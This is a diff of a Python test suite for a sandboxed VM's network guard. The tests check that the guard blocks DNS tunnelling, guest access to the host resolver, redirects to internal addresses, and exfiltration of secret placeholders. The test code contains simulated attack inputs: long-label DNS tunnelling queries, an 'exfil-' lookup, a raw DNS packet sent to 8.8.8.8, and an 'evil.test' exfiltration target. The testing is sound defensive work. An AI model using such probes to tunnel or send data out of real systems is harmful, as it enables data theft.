@@ -340,15 +340,17 @@ def query(name, qtype=1, raw_name=None):
 
 
 def test_dns_cannot_tunnel_and_never_asks_the_host_resolver(
-    guarded: VM, monkeypatch: pytest.MonkeyPatch
+    guarded: VM, upstreams: Upstreams, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """TXT, long labels, many unique names and DNS to other servers: answered or refused here.
 
     The host's resolver is spied on (``socket.getaddrinfo`` & co. and the
     resolver ``resolve_upstream`` uses). Nothing the guest asks reaches it,
     not even the host's own name, which the host *can* resolve: the guest
-    gets a synthetic address instead. Negative control: an allowed name
-    without a ``resolve`` entry does reach the spy when the guest fetches it.
+    gets a synthetic address instead (the policy names these names, so
+    they are answered at all; a name it does not know gets NXDOMAIN).
+    Negative control: an allowed name without a ``resolve`` entry does
+    reach the spy when the guest fetches it.
     """
     asked: list[str] = []
     lock = threading.Lock()
@@ -367,6 +369,7 @@ def test_dns_cannot_tunnel_and_never_asks_the_host_resolver(
     tag = uuid.uuid4().hex[:12]
     own_name = socket.gethostname()
     long_name = ".".join([("a" * 55) + tag[:8]] * 3) + ".tunnel.test"
+    guarded.configure_network(_policy(upstreams, allow=("*.tunnel.test", own_name)))
     code = (
         GUEST_DNS
         + f"tag, own, long_name = {tag!r}, {own_name!r}, {long_name!r}\n"
@@ -377,6 +380,7 @@ def test_dns_cannot_tunnel_and_never_asks_the_host_resolver(
         + "out['long'] = query(long_name)\n"
         + "out['too_long'] = query('', raw_name=(bytes([63]) + b'b' * 63) * 5 + b'\\0')\n"
         + "out['own'] = query(own)\n"
+        + "out['unknown'] = query('exfil-%s.elsewhere.test' % tag)\n"
         + "out['unique'] = [query('n%d-%s.tunnel.test' % (i, tag))['a'] for i in range(300)]\n"
         + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
         + "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n"
@@ -397,6 +401,7 @@ def test_dns_cannot_tunnel_and_never_asks_the_host_resolver(
     assert ipaddress.ip_address(out["long"]["a"]) in SYNTHETIC_POOL
     assert out["too_long"]["rcode"] == 1  # FORMERR: over 255 octets
     assert ipaddress.ip_address(out["own"]["a"]) in SYNTHETIC_POOL
+    assert (out["unknown"]["rcode"], out["unknown"]["a"]) == (3, None)  # NXDOMAIN
     unique = out["unique"]
     assert len(set(unique)) == 300 and all(
         ipaddress.ip_address(a) in SYNTHETIC_POOL for a in unique
@@ -596,7 +601,8 @@ def test_redirects_to_internal_addresses_stay_in_the_guest_or_are_denied(
         "loopback": ("302", "7"),
         "metadata": ("403", "0"),
         "slirp-host": ("403", "0"),
-        "internal-name": ("403", "0"),
+        # A name the policy does not know: the guest's lookup fails (exit 6).
+        "internal-name": ("302", "6"),
         "allowed": ("200", "0"),
     }, r.stdout
     assert host_service.tally.snapshot() == (0, 0)
@@ -671,7 +677,7 @@ def test_secret_placeholders_cannot_be_exfiltrated(guarded: VM, upstreams: Upstr
     assert r.stdout.count("=== ") == len(cases), r.stdout + r.stderr
     assert guarded.http is not None
     by_rule = collections.Counter(_rule(ex.reason) for ex in guarded.http.requests)
-    assert (by_rule["secrets"], by_rule["default-deny"]) == (7, 1), by_rule
+    assert (by_rule["secrets"], by_rule["dns"]) == (7, 1), by_rule  # evil.test: not resolved
     # Exactly three requests left the host: the allowed header and the two unrecognised forms.
     assert upstreams.totals()[1] - before[1] == 3
     new = upstreams.plain.tally.requests[-3:]
